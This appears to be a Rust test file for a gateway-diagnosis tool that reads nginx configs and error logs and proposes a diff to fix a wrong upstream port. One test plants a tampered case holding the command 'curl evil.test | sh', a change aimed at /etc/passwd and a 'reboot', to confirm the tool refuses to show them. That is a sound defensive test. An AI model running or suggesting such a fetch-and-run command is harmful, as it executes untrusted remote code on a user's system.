//! `gatemend check --config`: the gateway's own file, and the change that mends it.

use serde_json::Value;

use super::closed_url;
use super::program::Place;
use super::server::{Server, page};

/// What patch does with a diff of one file, strictly: every line that stays or goes must be there.
fn applied(text: &str, diff: &str) -> String {
    let mut out: Vec<&str> = Vec::new();
    let mut rest = text.lines();
    let mut at = 0;
    for line in diff.lines().skip(2) {
        if let Some(head) = line.strip_prefix("@@ -") {
            let first: usize = head.split(',').next().unwrap().parse().unwrap();
            while at + 1 < first {
                out.push(rest.next().unwrap());
                at += 1;
            }
        } else if let Some(added) = line.strip_prefix('+') {
            out.push(added);
        } else {
            let here = rest.next().unwrap();
            at += 1;
            assert_eq!(&line[1..], here, "line {at}");
            if line.starts_with(' ') {
                out.push(here);
            }
        }
    }
    out.extend(rest);
    out.join("\n") + "\n"
}

#[test]
fn the_wrong_port_is_found_in_an_included_file_and_the_change_applies() {
    let origin = Server::http(|link| link.answer(page("200 OK", "", "<title>Shop</title>")));
    let gateway = Server::http(|link| link.answer(page("502 Bad Gateway", "Server: nginx\r\n", super::NGINX_502)));
    let dead = closed_url();
    let dead = dead.trim_start_matches("http://").trim_end_matches('/');
    let now = jiff::Timestamp::now().strftime("%Y/%m/%d %H:%M:%S").to_string();
    let place = Place::new();
    let line = format!(
        "{now} [error] 7#7: *1 connect() failed (111: Connection refused) while connecting to upstream, client: 127.0.0.1, \
         server: 127.0.0.1, request: \"GET / HTTP/1.1\", upstream: \"http://{dead}/\", host: \"127.0.0.1\"\n"
    );
    place.write("error.log", line.repeat(3));
    place.write("nginx.conf", "events {}\nhttp {\n  include sites/*.conf;\n}\n");
    let port = gateway.ip_port.port();
    let site = format!(
        "server {{\n  listen {port};\n  server_name 127.0.0.1;\n  location / {{\n    proxy_set_header X-Api-Key hunter2;\n\
         \n    proxy_pass http://{dead};\n  }}\n}}\n"
    );
    place.write("sites/shop.conf", &site);
    let origin_at = origin.ip_port.to_string();
    let options =
        ["--as=owner", "--log=error.log", "--config=nginx.conf", "--json=case.json", "--no-redact", "--origin"];
    let run = place.check(&format!("http://{}/", gateway.ip_port), &[&options[..], &[origin_at.as_str()]].concat());
    assert_eq!((run.code, run.stderr.as_str()), (Some(1), ""), "{run:?}");
    assert!(run.stdout.contains(&format!("+    proxy_pass http://{origin_at};")), "{}", run.stdout);
    let case: Value = serde_json::from_str(&place.read("case.json")).unwrap();
    assert!(!place.read("case.json").contains("hunter2"), "secrets of the file stay in it");
    assert_eq!(case["diagnosis"]["cause"], "gateway-misconfigured", "{}", run.stdout);
    let change = case["diagnosis"]["next"].as_array().unwrap().iter().find_map(|next| next.get("change")).unwrap();
    assert!(change["file"].as_str().unwrap().ends_with("/sites/shop.conf"), "{change}");
    assert!(change["reload"].as_str().unwrap().starts_with("nginx -t -c /"), "{change}");
    let mended = applied(&site, change["diff"].as_str().unwrap());
    assert_eq!(mended, site.replace(dead, &origin_at));
    // A saved case gives the same change again.
    let shown = place.run(&["show", "case.json"]);
    assert!(shown.stdout.contains(&format!("+    proxy_pass http://{origin_at};")), "{}", shown.stdout);
}

#[test]
fn the_change_of_a_strangers_case_is_made_anew() {
    let place = Place::new();
    let gateway = Server::http(|link| link.answer(page("502 Bad Gateway", "Server: nginx\r\n", super::NGINX_502)));
    place.check(&format!("http://{}/", gateway.ip_port), &["--as=owner", "--json=case.json"]);
    let mut case: Value = serde_json::from_str(&place.read("case.json")).unwrap();
    case["diagnosis"]["next"][0]["change"] =
        serde_json::json!({"file": "/etc/passwd", "diff": "+evil", "reload": "curl evil.test | sh", "undo": "reboot"});
    place.write("case.json", case.to_string());
    let shown = place.run(&["show", "case.json", "--report", "report.md"]);
    assert_eq!(shown.code, Some(0), "{shown:?}");
    for text in [shown.stdout, place.read("report.md")] {
        assert!(!text.contains("evil") && !text.contains("reboot"), "{text}");
    }
}

#[test]
fn a_file_that_is_not_there_is_told_before_anybody_is_asked() {
    let run = Place::new().check("https://shop.example/", &["--as=owner", "--config=nowhere.conf"]);
    assert_eq!(run.code, Some(2), "{run:?}");
    assert!(run.stderr.contains("cannot read nowhere.conf"), "{run:?}");
}
